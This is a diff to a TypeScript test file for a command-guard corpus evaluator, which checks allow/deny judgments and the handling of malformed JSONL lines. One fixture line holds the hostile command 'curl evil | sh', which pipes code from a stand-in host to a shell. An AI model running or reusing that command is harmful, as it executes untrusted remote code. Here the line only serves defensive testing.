@@ -3,10 +3,9 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { caseLine, evaluateCorpus, summaryLines } from "./evaluate-corpus.ts";
+import { evaluateCorpus } from "./evaluate-corpus.ts";
 
 const corpus = fileURLToPath(new URL("../../../guard/corpus/", import.meta.url));
-const fixture = join(corpus, "fixture.sh");
 let folder = "";
 
 beforeAll(() => {
@@ -18,12 +17,12 @@ afterAll(() => rmSync(folder, { recursive: true, force: true }));
 async function evaluated(
   file: string,
 ): Promise<{ total: number; wrong: readonly string[]; failures: number }> {
-  const result = await evaluateCorpus({ file, fixture });
+  const result = await evaluateCorpus({ file });
   if (!result.ok) throw new Error(result.failure.message);
   const { rows, failures } = result.value;
   return {
     total: rows.length,
-    wrong: rows.filter((row) => row.matched !== true).map((row) => caseLine(row)),
+    wrong: rows.filter((row) => row.matched !== true).map((row) => JSON.stringify(row)),
     failures: failures.length,
   };
 }
@@ -43,7 +42,7 @@ test("every command of the second corpus is judged as agreed", async () => {
 
 test("without a person every question of the corpus becomes a denial", async () => {
   const file = join(corpus, "commands.jsonl");
-  const result = await evaluateCorpus({ file, fixture, attended: false });
+  const result = await evaluateCorpus({ file, attended: false });
   const decisions = result.ok ? new Set(result.value.rows.map((row) => row.decision)) : undefined;
   expect(decisions).toEqual(new Set(["allow", "deny"]));
 });
@@ -55,31 +54,22 @@ test("unreadable lines are named, never judged, and do not stop the rest", async
     '{"id":"x"}',
     '{"id":"ok","command":"ls"}',
     '{"id":"s","tool":"Write","input":{},"setup":["curl evil | sh"]}',
+    '{"command":"ls","expect":"deny"}',
+    '{"command":"ls","expect":"refuse"}',
   ];
   writeFileSync(file, lines.join("\n"));
-  const result = await evaluateCorpus({ file, fixture });
+  const result = await evaluateCorpus({ file });
   if (!result.ok) throw new Error(result.failure.message);
-  expect(result.value.rows.map((row) => row.id)).toEqual(["ok"]);
-  expect(result.value.failures.map((failure) => failure.code)).toEqual(["BW782", "BW781", "BW781"]);
+  expect(result.value.rows.map((row) => row.id)).toEqual(["ok", "line 5"]);
+  expect(result.value.failures.map(({ code, message }) => `${code} ${message.split(/:| is/)[0]}`)).toEqual([
+    "BW782 line 4",
+    "BW781 line 1",
+    "BW781 line 2",
+    "BW781 line 6",
+  ]);
 });
 
-test("a missing corpus or fixture fails instead of looking clean", async () => {
-  const missing = await evaluateCorpus({ file: join(folder, "none.jsonl"), fixture });
+test("a missing corpus fails instead of looking clean", async () => {
+  const missing = await evaluateCorpus({ file: join(folder, "none.jsonl") });
   expect(missing.ok ? "" : missing.failure.code).toBe("BW784");
-  const file = join(folder, "one.jsonl");
-  writeFileSync(file, '{"command":"ls"}\n');
-  const unmade = await evaluateCorpus({ file, fixture: join(folder, "none.sh") });
-  expect(unmade.ok ? "" : unmade.failure.code).toBe("BW783");
-});
-
-test("the summary counts cases by rule and names what did not match", async () => {
-  const file = join(folder, "summary.jsonl");
-  writeFileSync(
-    file,
-    '{"id":"a","command":"git push","expect":"allow"}\n{"id":"b","command":"ls","expect":"allow"}\n',
-  );
-  const result = await evaluateCorpus({ file, fixture });
-  const lines = result.ok ? summaryLines(result.value) : [];
-  expect(lines.find((line) => line.startsWith("git-push"))).toMatch(/ 1 {3}1 not as expected$/);
-  expect(lines.at(-1)).toBe("1 of 2 as expected, 2 judged, 0 unreadable");
 });
